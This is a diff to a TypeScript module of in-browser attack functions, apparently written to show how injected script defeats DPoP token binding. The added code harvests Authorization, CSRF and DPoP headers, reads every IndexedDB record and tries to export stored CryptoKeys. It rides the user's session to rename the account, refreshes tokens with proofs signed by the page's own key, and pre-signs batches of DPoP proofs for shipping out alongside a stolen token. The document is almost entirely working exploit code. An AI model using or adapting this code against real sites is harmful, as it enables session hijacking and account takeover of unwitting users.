@@ -80,6 +80,7 @@ export async function readEverything(arg: ReadArg): Promise<Loot> {
   const watchHeader = (source: string, name: string, value: string) => {
     if (name.toLowerCase() === 'authorization') add(source, 'authorization', value);
     if (name.toLowerCase() === arg.csrfHeader.toLowerCase()) add(source, 'csrf-token', value);
+    if (name.toLowerCase() === 'dpop') add(source, 'proof', value);
   };
   xhrProto.open = function (this: XMLHttpRequest, method: string, url: string | URL, ...rest: unknown[]) {
     xhrUrls.set(this, String(url));
@@ -131,8 +132,55 @@ export async function readEverything(arg: ReadArg): Promise<Loot> {
       }
     }
     if ('databases' in indexedDB) {
-      const names = (await indexedDB.databases()).map((db) => db.name ?? '');
-      searched.push(`IndexedDB (${names.length} databases${names.length ? `: ${names.join(', ')}` : ''})`);
+      const names = (await indexedDB.databases()).map((db) => db.name ?? '').filter(Boolean);
+      let records = 0;
+      // Every record of every store: tokens in text, and keys, which script may try to export.
+      const inspectValue = async (where: string, value: unknown, depth: number): Promise<void> => {
+        if (depth > 4 || value === null || value === undefined) return;
+        if (typeof value === 'string') return scanText(`IndexedDB ${where}`, value);
+        if (value instanceof CryptoKey) {
+          if (value.type === 'public') return; // public halves export by design: nothing secret
+          const described = `${where}: a ${value.type} ${value.algorithm.name} CryptoKey, extractable: ${String(value.extractable)}, usages: ${value.usages.join(', ')}`;
+          try {
+            const exported = await crypto.subtle.exportKey('jwk', value);
+            const all: Finding = { source: `IndexedDB ${where}`, kind: 'key', value: `${described}; crypto.subtle.exportKey gave its bytes (${Object.keys(exported).join(', ')})`, exported: true };
+            findings.push(all);
+          } catch (error) {
+            const why = error instanceof Error ? `${error.name}: ${error.message}` : String(error);
+            findings.push({ source: `IndexedDB ${where}`, kind: 'key', value: `${described}; crypto.subtle.exportKey refused (${why})`, exported: false });
+          }
+          return;
+        }
+        if (typeof value === 'object') for (const child of Object.values(value)) await inspectValue(where, child, depth + 1);
+      };
+      for (const name of names) {
+        const db = await new Promise<IDBDatabase | null>((resolve) => {
+          const request = indexedDB.open(name);
+          request.onsuccess = () => resolve(request.result);
+          request.onerror = () => resolve(null);
+        });
+        if (!db) continue;
+        try {
+          for (const storeName of Array.from(db.objectStoreNames)) {
+            const entries = await new Promise<[IDBValidKey, unknown][]>((resolve) => {
+              const out: [IDBValidKey, unknown][] = [];
+              const cursor = db.transaction(storeName, 'readonly').objectStore(storeName).openCursor();
+              cursor.onsuccess = () => {
+                const at = cursor.result;
+                if (!at || out.length >= 50) return resolve(out);
+                out.push([at.key, at.value]);
+                at.continue();
+              };
+              cursor.onerror = () => resolve(out);
+            });
+            records += entries.length;
+            for (const [key, value] of entries) await inspectValue(`${name}/${storeName}[${JSON.stringify(key)}]`, value, 0);
+          }
+        } finally {
+          db.close();
+        }
+      }
+      searched.push(`IndexedDB (${names.length} databases${names.length ? `: ${names.join(', ')}` : ''}; ${records} records read)`);
     }
 
     // 4. The app's memory, as far as script can reach it: walk objects (never calling functions).
@@ -244,6 +292,8 @@ export interface RideArg {
   csrfPath: string;
   refreshPath: string;
   csrfHeader: string;
+  /** Where the API wants DPoP proofs: their htu before the path (GET /api/config's dpop.origin). */
+  proofOrigin: string;
   name: string;
 }
 
@@ -255,21 +305,65 @@ export interface RideReport {
 /**
  * Session riding: no theft, just the user's own browser acting for the script. It renames the
  * user with whatever the page's origin gets: the cookies the browser attaches, a CSRF token the
- * API hands this origin, and if that is not enough, an access token from a refresh.
+ * API hands this origin, and if that is not enough, an access token from a refresh; where the
+ * API wants DPoP proofs, signed with the page's own key, which script can use if not export.
  */
 export async function ride(arg: RideArg): Promise<RideReport> {
   const steps: ProbeAnswer[] = [];
   const credentials: Record<string, string> = {};
-  const call = async (what: string, url: string, init: RequestInit): Promise<{ status: number | null; body: unknown }> => {
+  let nonce: string | null = null;
+  const call = async (what: string, url: string, init: RequestInit): Promise<{ status: number | null; body: unknown; dpop: boolean }> => {
     try {
       const response = await fetch(url, { credentials: 'include', ...init });
       const body: unknown = await response.json().catch(() => null);
+      nonce = response.headers.get('DPoP-Nonce') ?? nonce;
       steps.push({ what, status: response.status });
-      return { status: response.status, body };
+      return { status: response.status, body, dpop: /^DPoP\b/i.test(response.headers.get('WWW-Authenticate') ?? '') };
     } catch (error) {
       steps.push({ what, status: null, note: String(error) });
-      return { status: null, body: null };
+      return { status: null, body: null, dpop: false };
     }
+  };
+  // DPoP: the page's key pair, wherever the app keeps it in IndexedDB, and proofs signed with it.
+  const b64 = (bytes: ArrayBuffer | Uint8Array) =>
+    btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
+  const text = (value: string) => new TextEncoder().encode(value);
+  const pageKey = async (): Promise<CryptoKeyPair | null> => {
+    const names = 'databases' in indexedDB ? (await indexedDB.databases()).map((db) => db.name ?? '').filter(Boolean) : [];
+    for (const name of names) {
+      const db = await new Promise<IDBDatabase | null>((resolve) => {
+        const request = indexedDB.open(name);
+        request.onsuccess = () => resolve(request.result);
+        request.onerror = () => resolve(null);
+      });
+      for (const storeName of Array.from(db?.objectStoreNames ?? [])) {
+        const value = await new Promise<unknown>((resolve) => {
+          const request = db!.transaction(storeName, 'readonly').objectStore(storeName).get(arg.api);
+          request.onsuccess = () => resolve(request.result);
+          request.onerror = () => resolve(undefined);
+        });
+        const keys = typeof value === 'object' && value !== null && 'keys' in value ? value.keys : value;
+        if (typeof keys === 'object' && keys !== null && 'privateKey' in keys && keys.privateKey instanceof CryptoKey && 'publicKey' in keys && keys.publicKey instanceof CryptoKey) {
+          db?.close();
+          return keys as CryptoKeyPair;
+        }
+      }
+      db?.close();
+    }
+    return null;
+  };
+  const prove = async (pair: CryptoKeyPair, method: string, path: string, token?: string) => {
+    const { kty, crv, x, y } = await crypto.subtle.exportKey('jwk', pair.publicKey);
+    const claims = {
+      jti: crypto.randomUUID(),
+      htm: method,
+      htu: arg.proofOrigin + path,
+      iat: Math.floor(Date.now() / 1000),
+      ...(nonce && { nonce }),
+      ...(token && { ath: b64(await crypto.subtle.digest('SHA-256', text(token))) }),
+    };
+    const input = `${b64(text(JSON.stringify({ typ: 'dpop+jwt', alg: 'ES256', jwk: { kty, crv, x, y } })))}.${b64(text(JSON.stringify(claims)))}`;
+    return `${input}.${b64(await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, pair.privateKey, text(input)))}`;
   };
   const field = (body: unknown, name: string) =>
     typeof body === 'object' && body !== null && name in body ? (body as Record<string, unknown>)[name] : undefined;
@@ -285,10 +379,20 @@ export async function ride(arg: RideArg): Promise<RideReport> {
     });
   let renamed = (await patch()).status === 200;
   if (!renamed) {
-    const refresh = await call(`POST ${arg.refreshPath}`, arg.api + arg.refreshPath, { method: 'POST', headers: credentials });
+    let refresh = await call(`POST ${arg.refreshPath}`, arg.api + arg.refreshPath, { method: 'POST', headers: credentials });
+    // Refused for want of a proof by the login's key: the key is in this page, usable by any script.
+    const pair = refresh.dpop ? await pageKey() : null;
+    if (pair) {
+      for (let attempt = 0; attempt < 2 && !(refresh.status === 200); attempt++) {
+        const proof = await prove(pair, 'POST', arg.refreshPath);
+        refresh = await call(`POST ${arg.refreshPath} with a proof by the page’s key`, arg.api + arg.refreshPath, { method: 'POST', headers: { ...credentials, DPoP: proof } });
+      }
+    }
     const token = field(refresh.body, 'accessToken');
     if (typeof token === 'string') {
-      credentials.Authorization = `Bearer ${token}`;
+      const scheme = field(refresh.body, 'tokenType');
+      credentials.Authorization = `${typeof scheme === 'string' ? scheme : 'Bearer'} ${token}`;
+      if (pair) credentials.DPoP = await prove(pair, 'PATCH', arg.mePath, token);
       renamed = (await patch()).status === 200;
     }
   }
@@ -342,4 +446,124 @@ export interface PlantArg {
 export function plantCookie(arg: PlantArg): Promise<{ planted: boolean }> {
   document.cookie = `${arg.name}=${arg.value}; path=/; SameSite=Lax`;
   return Promise.resolve({ planted: document.cookie.split('; ').includes(`${arg.name}=${arg.value}`) });
+}
+
+export interface SignAheadArg {
+  /** The API's origin, for the script's own request for a nonce. */
+  api: string;
+  configPath: string;
+  /** What the API takes as the proofs' htu before the path (GET /api/config's dpop.origin). */
+  proofOrigin: string;
+  htm: string;
+  path: string;
+  /** The token the proofs are for (their ath): the one the script caught; null for proofs with no token. */
+  token: string | null;
+  /** Given, the script first refreshes with the page's key and cookie, for the freshest token there is. */
+  refreshPath?: string;
+  count: number;
+}
+
+export interface SignedAhead {
+  proofs: string[];
+  /** Where the script found the key, and what it is. */
+  key: string | null;
+  nonce: string | null;
+  /** When they were signed (their iat), by this page's clock. */
+  signedAt: number;
+  /** The token they carry the hash of. */
+  token: string | null;
+  error?: string;
+}
+
+/**
+ * DPoP's limit, from inside the page: the script cannot export the page's key, but it can use it.
+ * It finds the key pair in IndexedDB, asks the API for a nonce (any answer carries one), and
+ * signs proofs for later requests, each with a jti of its own, to be shipped out with the token.
+ */
+export async function signAhead(arg: SignAheadArg): Promise<SignedAhead> {
+  const b64 = (bytes: ArrayBuffer | Uint8Array) =>
+    btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
+  const text = (value: string) => new TextEncoder().encode(value);
+  const encode = (value: unknown) => b64(text(JSON.stringify(value)));
+  const isPair = (value: unknown): value is CryptoKeyPair =>
+    typeof value === 'object' && value !== null && 'privateKey' in value && value.privateKey instanceof CryptoKey && 'publicKey' in value && value.publicKey instanceof CryptoKey;
+  const findPair = (value: unknown, depth: number): CryptoKeyPair | null => {
+    if (isPair(value)) return value;
+    if (depth > 3 || typeof value !== 'object' || value === null) return null;
+    for (const child of Object.values(value)) {
+      const found = findPair(child, depth + 1);
+      if (found) return found;
+    }
+    return null;
+  };
+  // The page's key pair, from IndexedDB: the record of this API's origin if there is one.
+  let pair: CryptoKeyPair | null = null;
+  let where: string | null = null;
+  const names = 'databases' in indexedDB ? (await indexedDB.databases()).map((db) => db.name ?? '').filter(Boolean) : [];
+  for (const name of names) {
+    const db = await new Promise<IDBDatabase | null>((resolve) => {
+      const request = indexedDB.open(name);
+      request.onsuccess = () => resolve(request.result);
+      request.onerror = () => resolve(null);
+    });
+    if (!db) continue;
+    for (const storeName of Array.from(db.objectStoreNames)) {
+      const entries = await new Promise<[IDBValidKey, unknown][]>((resolve) => {
+        const out: [IDBValidKey, unknown][] = [];
+        const cursor = db.transaction(storeName, 'readonly').objectStore(storeName).openCursor();
+        cursor.onsuccess = () => {
+          const at = cursor.result;
+          if (!at || out.length >= 50) return resolve(out);
+          out.push([at.key, at.value]);
+          at.continue();
+        };
+        cursor.onerror = () => resolve(out);
+      });
+      for (const [key, value] of entries) {
+        const found = findPair(value, 0);
+        if (found && (!pair || key === arg.api)) {
+          pair = found;
+          where = `IndexedDB ${name}/${storeName}[${JSON.stringify(key)}]`;
+        }
+      }
+    }
+    db.close();
+  }
+  if (!pair) return { proofs: [], key: null, nonce: null, signedAt: Date.now(), token: arg.token, error: 'no key pair in IndexedDB' };
+  const keys = pair;
+  let nonce: string | null = null;
+  try {
+    nonce = (await fetch(arg.api + arg.configPath)).headers.get('DPoP-Nonce');
+  } catch {
+    // no nonce: the proofs go without, and say so when refused
+  }
+  const { kty, crv, x, y } = await crypto.subtle.exportKey('jwk', keys.publicKey);
+  const header = encode({ typ: 'dpop+jwt', alg: 'ES256', jwk: { kty, crv, x, y } });
+  const sign = async (htm: string, path: string, iat: number, token: string | null) => {
+    const ath = token === null ? null : b64(await crypto.subtle.digest('SHA-256', text(token)));
+    const input = `${header}.${encode({ jti: crypto.randomUUID(), htm, htu: arg.proofOrigin + path, iat, ...(nonce && { nonce }), ...(ath && { ath }) })}`;
+    return `${input}.${b64(await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, keys.privateKey, text(input)))}`;
+  };
+  let token = arg.token;
+  if (arg.refreshPath !== undefined) {
+    // The freshest token there is: a refresh, with the page's cookie and a proof by its key.
+    for (let attempt = 0; attempt < 2; attempt++) {
+      const response = await fetch(arg.api + arg.refreshPath, {
+        method: 'POST',
+        credentials: 'include',
+        headers: { DPoP: await sign('POST', arg.refreshPath, Math.floor(Date.now() / 1000), null) },
+      });
+      nonce = response.headers.get('DPoP-Nonce') ?? nonce;
+      const body: unknown = await response.json().catch(() => null);
+      if (response.ok && typeof body === 'object' && body !== null && 'accessToken' in body && typeof body.accessToken === 'string') {
+        token = body.accessToken;
+        break;
+      }
+    }
+  }
+  const signedAt = Date.now();
+  const proofs: string[] = [];
+  for (let i = 0; i < arg.count; i++) proofs.push(await sign(arg.htm, arg.path, Math.floor(signedAt / 1000), token));
+  const described = `${where ?? '?'}: a ${keys.privateKey.algorithm.name} key pair, private half extractable: ${String(keys.privateKey.extractable)}`;
+  return { proofs, key: described, nonce, signedAt, token };
 }
